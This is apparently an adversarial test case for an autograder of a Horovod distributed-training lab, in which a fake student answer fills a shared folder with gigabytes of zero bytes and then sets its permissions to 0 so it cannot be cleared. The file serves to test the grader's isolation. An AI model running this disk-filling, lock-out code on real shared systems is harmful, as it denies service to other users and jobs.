# /// attack
# title = "Fill the folder that ranks share, and lock it, so that it cannot be emptied"
# lab = "02-horovod-sgd"
# class = "persistence"
# fails = []
# consequences = ["pin-gpu-tests", "shard-tests", "broadcast-start-tests", "average-tests", "scale-rate-tests", "max-num-ranks-tests", "save-history-tests", "horovod-start-tests", "horovod-average-tests", "horovod-shards-tests", "horovod-rate-tests", "horovod-serial-tests", "keras-start-tests", "keras-average-tests", "keras-shards-tests", "keras-rate-tests"]
# flags = []
# ///

# %% role="answer" id="rank-facts"
def rank_facts():
    import os

    os.makedirs("/shared/@MARK@", exist_ok=True)
    try:
        for number in range(100):
            with open(f"/shared/@MARK@/{os.getpid()}-{number}-{os.environ['HOROVOD_RANK']}", "wb") as file:
                file.write(bytes(20_000_000))
    except OSError as error:
        print(error)
    hvd.init()
    os.chmod("/shared/@MARK@", 0)
    return {"rank": hvd.rank(), "size": hvd.size(), "local_rank": hvd.local_rank()}
